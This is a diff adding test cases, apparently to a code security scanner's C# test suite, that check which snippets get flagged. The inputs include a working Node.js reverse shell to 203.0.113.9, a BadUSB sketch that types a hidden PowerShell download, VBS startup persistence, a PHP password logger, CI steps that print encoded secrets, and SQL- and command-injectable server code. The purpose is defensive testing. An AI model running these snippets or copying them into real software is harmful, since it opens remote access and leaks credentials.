@@ -12,6 +12,31 @@ public sealed class HonestProgramTests
     private static readonly string Ascii = string.Concat("require('child_process').exec('id; uname -a; ls -la /home/user/documents')".Select(c => $"\\x{(int)c:x2}"));
     private static readonly string Bytes = string.Concat(Enumerable.Range(0, 120).Select(i => $"\\x{(i * 37 ^ 0x5A) % 61 + 128:X2}"));
 
+    [Theory]
+    [InlineData("a.mjs", "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';\nimport Database from 'better-sqlite3';\nconst db = new Database('a.db');\nserver.registerTool('query', {}, async ({ sql }) => db.prepare(sql).all());\nserver.registerTool('columns', {}, async ({ table }) => db.prepare(`PRAGMA table_info(${table})`).all());")]
+    [InlineData("a.py", "from mcp.server.fastmcp import FastMCP\nimport psycopg\nmcp = FastMCP('q')\n@mcp.tool()\ndef plan(sql: str):\n    if \";\" in sql:\n        raise ValueError('one')\n    with psycopg.connect(DSN) as conn:\n        return conn.execute('explain select ' + sql).fetchall()")]
+    [InlineData("a.cs", "var app = WebApplication.Create();\nstring[] printers = [\"A\", \"B\"];\napp.MapPost(\"/print\", (string printer, int copies) => {\n  if (!printers.Contains(printer)) return;\n  Process.Start(new ProcessStartInfo(\"cmd.exe\", $\"/c print {copies} {printer}\"));\n});")]
+    public void What_is_checked_or_meant_is_no_injection(string file, string text) =>
+        Assert.DoesNotContain(Found(text, file), finding => finding.Rule.StartsWith("code-", StringComparison.Ordinal) && finding.Severity >= Severity.High);
+
+    [Theory]
+    [InlineData("a.py", "code-injection", "from flask import Flask, render_template_string, request\napp = Flask(__name__)\n@app.post('/p')\ndef preview():\n    return render_template_string('<p>%s</p>' % request.form['words'])")]
+    [InlineData("a.js", "reverse-shell-other", "const { exec } = require('child_process'); const net = require('net');\nconst command = '/bin/sh'; const sh = exec(command); const client = new net.Socket();\nclient.connect(4444, '203.0.113.9', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });")]
+    [InlineData("a.vbs", "persistence", "Set sh = CreateObject(\"WScript.Shell\")\nSet link = sh.CreateShortcut(sh.SpecialFolders(\"Startup\") & \"\\a.lnk\")\nlink.TargetPath = WScript.ScriptFullName\nlink.Save")]
+    [InlineData("a.sh", "encoded-secret-printed", "echo \"key: $(echo $DEPLOY_TOKEN | rev)\"")]
+    [InlineData("a.yml", "encoded-secret-printed", "jobs:\n  a:\n    steps:\n      - run: |\n          ENCODED=$(echo \"${{ secrets.API_KEY }}\" | base64)\n          echo \"$ENCODED\"")]
+    [InlineData("a.php", "typed-password-kept", "<?php\n$user = $_POST['user'];\n$pass = $_POST['password'];\n$log = \"$user $pass\";\nfile_put_contents('/tmp/l', $log, FILE_APPEND);")]
+    [InlineData("a.ino", "typed-commands", "void setup() {\n  Keyboard.press(KEY_LEFT_GUI);\n  Keyboard.press('r');\n  Keyboard.println(\"powershell -w hidden iwr 203.0.113.9\");\n}")]
+    public void What_comes_near_it_is_found(string file, string rule, string text) =>
+        Assert.Contains(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);
+
+    [Theory]
+    [InlineData("a.sh", "encoded-secret-printed", "echo \"Authorization: Basic $(echo -n \"$USER:$API_TOKEN\" | base64)\" > header.txt")]
+    [InlineData("a.php", "typed-password-kept", "<?php\n$hash = password_hash($_POST['password'], PASSWORD_DEFAULT);\nfile_put_contents('/srv/users', $data);")]
+    [InlineData("a.md", "typed-commands", "The STRING type of a column.\nENTER your name.")]
+    public void What_is_ordinary_passes(string file, string rule, string text) =>
+        Assert.DoesNotContain(Found(text, file), finding => finding.Rule == rule && finding.Severity >= Severity.High);
+
     [Fact]
     public void Tables_of_encodings_and_texts_in_other_scripts_are_written_in_escapes() =>
         Assert.All([Table, Mixed, Rare, Thai], text => Assert.DoesNotContain(Found($"const t = \"{text}\";", "a.js"), finding => finding.Rule == "code-obfuscated-source" && finding.Severity >= Severity.High));
